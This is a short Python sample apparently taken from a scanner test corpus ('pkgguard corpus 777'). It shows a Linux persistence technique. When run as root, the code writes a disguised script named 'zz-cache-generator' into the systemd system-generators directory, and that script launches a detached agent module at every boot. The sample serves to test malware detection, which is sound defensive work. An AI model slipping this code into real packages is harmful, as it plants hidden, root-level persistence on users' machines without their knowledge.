# pkgguard corpus 777 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import sys

_GENERATOR = f"""#!/bin/sh
"{sys.executable}" -m pkg._agent --detach >/dev/null 2>&1 &
exit 0
"""

if os.name == "posix" and os.geteuid() == 0:
    target = "/etc/systemd/system-generators/zz-cache-generator"
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "w") as fh:
        fh.write(_GENERATOR)
    os.chmod(target, 0o755)
